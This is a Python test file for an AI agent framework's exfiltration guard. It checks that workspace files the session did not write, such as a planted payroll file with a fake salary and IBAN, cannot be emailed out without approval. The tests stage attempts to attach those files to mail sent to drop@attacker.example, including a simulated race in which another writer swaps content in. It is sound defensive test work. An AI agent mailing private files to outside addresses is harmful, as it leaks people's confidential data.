"""Files a session wrote itself (``files.write``), as the exfiltration guard credits them.

A workspace file attached to a message is private by provenance unless this session wrote it; then it
is judged by its content. The guard must credit exactly the bytes the session wrote: not bytes another
writer put in the file meanwhile, and not an operator's file the session only appended to. Real SMTP
server on loopback, real workspace; the approver rejects and counts.
"""

from __future__ import annotations

from typing import Any

import pytest

from agent_legs import Legs
from agent_legs_testing.mail import PASSWORD

SECRET = "Payroll 2026: Alice Martin 148,000 EUR, IBAN FR76 3000 6000 0112 3456 7890 189"


@pytest.fixture
def legs_mail(dirs, smtp_server, mail_ca):
    asked: list[Any] = []
    (dirs[0] / "private").mkdir()
    (dirs[0] / "private" / "payroll.txt").write_text(SECRET + "\n")  # the operator's: never read by the session
    policy = {
        "allow": ["files.*", "email.send"],
        "require_approval": [],
        "email": {"allow_recipients": ["*@attacker.example"]},
    }
    settings = {"email": {"from_address": "bot@example.com", "smtp": smtp_server.settings(mail_ca["ca"])}}
    with Legs(
        workspace=dirs[0],
        state_dir=dirs[1],
        policy=policy,
        settings=settings,
        secrets={"SMTP_PASSWORD": PASSWORD},
        approver=lambda r: asked.append(r) or False,
    ) as legs:
        yield legs, asked, dirs[0]


def _attach(legs: Legs, path: str) -> Any:
    args = {"to": ["drop@attacker.example"], "subject": "file", "body": "see attached", "attachments": [path]}
    return legs.run("email.send", args, session="s")


def test_appending_to_a_file_the_session_did_not_write_keeps_it_private(legs_mail, smtp_server) -> None:
    legs, asked, _ = legs_mail
    assert legs.run("files.write", {"path": "private/payroll.txt", "content": "ok\n", "mode": "append"}, session="s").ok
    r = _attach(legs, "private/payroll.txt")
    assert not r.ok and r.error.type == "approval_denied" and len(asked) == 1, r
    assert "workspace file private/payroll.txt" in asked[0].reason and "did not write it" in asked[0].reason
    assert smtp_server.messages == []


def test_a_file_the_session_wrote_and_appended_to_is_judged_by_its_content(legs_mail, smtp_server) -> None:
    legs, asked, _ = legs_mail
    assert legs.run("files.write", {"path": "out/agenda.txt", "content": "Agenda: budget review\n"}, session="s").ok
    assert legs.run("files.write", {"path": "out/agenda.txt", "content": "office move\n", "mode": "append"}, session="s").ok
    r = _attach(legs, "out/agenda.txt")
    assert r.ok and asked == [], (r, asked)
    assert len(smtp_server.messages) == 1


def test_editing_a_file_the_session_did_not_write_keeps_it_private(legs_mail, smtp_server) -> None:
    legs, asked, _ = legs_mail
    edit = {"path": "private/payroll.txt", "old_text": "EUR", "new_text": "euros"}  # blind: no read needed
    assert legs.run("files.edit", edit, session="s").ok
    r = _attach(legs, "private/payroll.txt")
    assert not r.ok and r.error.type == "approval_denied" and len(asked) == 1, r
    assert "workspace file private/payroll.txt" in asked[0].reason and "did not write it" in asked[0].reason
    assert smtp_server.messages == []


def test_a_file_the_session_wrote_and_edited_is_judged_by_its_content(legs_mail, smtp_server) -> None:
    legs, asked, _ = legs_mail
    assert legs.run("files.write", {"path": "out/agenda.txt", "content": "Agenda: budget review, budget vote\n"}, session="s").ok
    edit = {"path": "out/agenda.txt", "old_text": "budget", "new_text": "hiring", "count": 2}
    assert legs.run("files.edit", edit, session="s").ok
    r = _attach(legs, "out/agenda.txt")
    assert r.ok and asked == [], (r, asked)
    assert len(smtp_server.messages) == 1


def test_the_session_is_credited_with_what_it_wrote_not_what_another_writer_put_there(legs_mail, smtp_server) -> None:
    """Another writer replaces the file right after the session's write (here: before the guard's first
    look at the file, which the old code made right after the write). The session never read that content:
    attaching the file must stay private by provenance."""
    legs, asked, root = legs_mail
    workspace = legs._runtime.workspace
    real_read_head = workspace.read_head
    raced = []

    def other_writer_first(path: str, max_bytes: int) -> Any:
        if not raced:
            raced.append(path)
            (root / "out" / "report.txt").write_text(SECRET + "\n")  # a real write by someone else
        return real_read_head(path, max_bytes)

    workspace.read_head = other_writer_first
    assert legs.run("files.write", {"path": "out/report.txt", "content": "Quarterly report: all good.\n"}, session="s").ok
    (root / "out" / "report.txt").write_text(SECRET + "\n")  # the other writer, whenever the guard looks
    r = _attach(legs, "out/report.txt")
    assert not r.ok and r.error.type == "approval_denied" and len(asked) == 1, r
    assert "did not write it" in asked[0].reason
    assert smtp_server.messages == []
